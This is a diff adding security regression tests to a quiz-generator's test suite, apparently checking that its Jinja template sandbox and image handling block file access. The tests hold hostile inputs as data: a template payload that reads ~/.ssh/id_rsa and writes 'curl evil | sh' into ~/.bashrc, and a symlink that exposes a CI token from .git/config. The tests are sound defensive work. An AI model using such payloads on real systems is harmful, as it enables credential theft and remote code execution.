@@ -21,6 +21,7 @@ from quizgen.cli import cli
 from quizgen.errors import QuizgenError
 
 from .conftest import write_project
+from .test_math_images import png
 from .test_sandbox import outputs
 
 SECRET = "s3cr3t-k3y-7f1c"
@@ -87,6 +88,82 @@ def test_a_template_cannot_reach_python_through_the_data_it_gets(
     message = attempt(lambda: pipeline.build(options(root)))
     assert not marker.exists()
     assert message is not None
+
+
+def test_a_template_cannot_read_or_write_files_through_an_images_path(
+    tmp_path: Path, fake_home: Path, options: Callable[..., pipeline.Options]
+) -> None:
+    # A card with an image gives the template its source as a Path, whose public methods Jinja's
+    # sandbox let it call: it read the key into the page and could write ~/.bashrc.
+    text = BASIC.replace('front: "What is a leaf tensor?"', 'front: "What is a leaf tensor? ![t](t.png)"')
+    root = write_project(tmp_path / "project", {"deck.yaml": text})
+    (root / "cards" / "t.png").write_bytes(png(1, 1))
+    marker = fake_home / ".bashrc"
+    quiz = root / "templates" / "quiz"
+    quiz.mkdir(parents=True)
+    each = "{% for c in cards %}{% for p in c.media.values() %}"
+    read = f"{{{{ p.resolve().joinpath({str(fake_home / '.ssh' / 'id_rsa')!r}).read_text() }}}}"
+    write = f"{{{{ p.resolve().joinpath({str(marker)!r}).write_text('curl evil | sh') }}}}"
+    (quiz / "deck.html").write_text(
+        '{% extends "default:quiz/deck.html" %}\n{% block footer %}\n'
+        f"{each}{read}{write}{{% endfor %}}{{% endfor %}}\n{{% endblock %}}\n"
+    )
+    message = attempt(lambda: pipeline.build(options(root)))
+    assert not marker.exists() and SECRET not in outputs(root)
+    assert message == (
+        f"{quiz / 'deck.html'}:3: access to attribute 'resolve' of 'PosixPath' object is unsafe. (templates "
+        "render in a sandbox that refuses this)"
+    )
+
+
+@pytest.mark.parametrize("image", ["x.png", "x.jpg", "x.gif", "x.webp", "x.svg"])
+def test_an_image_naming_a_file_of_the_checkout_through_a_symlink_is_refused(
+    tmp_path: Path, options: Callable[..., pipeline.Options], image: str
+) -> None:
+    # A CI checkout leaves the job's token in .git/config: inside the project, so a symlink to it
+    # passed the "inside the project" rule and its bytes were published as an image.
+    text = BASIC.replace('front: "What is a leaf tensor?"', f'front: "What is a leaf tensor? ![x]({image})"')
+    root = write_project(tmp_path / "project", {"deck.yaml": text})
+    (root / ".git").mkdir()
+    (root / ".git" / "config").write_text(f"[http]\n\textraheader = AUTHORIZATION: basic {SECRET}\n")
+    (root / "cards" / image).symlink_to(Path("..") / ".git" / "config")
+    message = attempt(lambda: pipeline.build(options(root)))
+    assert SECRET not in outputs(root)
+    kind = image.rpartition(".")[2].upper()
+    why = "is not plain drawing: it is not well-formed XML" if kind == "SVG" else f"is not a {kind} file"
+    assert message is not None and f"front: image '{image}' {why}" in message
+
+
+INDEX = "quiz/index.html (or a template it extends or includes)"
+
+
+@pytest.mark.parametrize(
+    ("body", "where"),
+    [
+        (
+            "{{ " + "(" * 3000 + "1" + ")" * 3000 + " }}",
+            "quiz/index.html (or a template it extends or includes)",
+        ),
+        (
+            "{% if 1 %}" * 3000 + "x" + "{% endif %}" * 3000,
+            "quiz/index.html (or a template it extends or includes)",
+        ),
+        ("{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}", "TEMPLATE:1"),
+    ],
+    ids=["nested-expression", "nested-blocks", "recursive-macro"],
+)
+def test_a_template_nested_past_pythons_recursion_is_a_located_error(
+    tmp_path: Path, options: Callable[..., pipeline.Options], body: str, where: str
+) -> None:
+    root = write_project(tmp_path / "project", {"deck.yaml": BASIC})
+    quiz = root / "templates" / "quiz"
+    quiz.mkdir(parents=True)
+    (quiz / "index.html").write_text(
+        f'{{% extends "default:quiz/index.html" %}}{{% block main %}}{body}{{% endblock %}}'
+    )
+    message = attempt(lambda: pipeline.build(options(root)))  # (a RecursionError is not caught here)
+    where = where.replace("TEMPLATE", str(quiz / "index.html"))
+    assert message == f"{where}: nested or recursing deeper than templates can go"
 
 
 @pytest.mark.parametrize("link", ["file", "folder", "templates"])
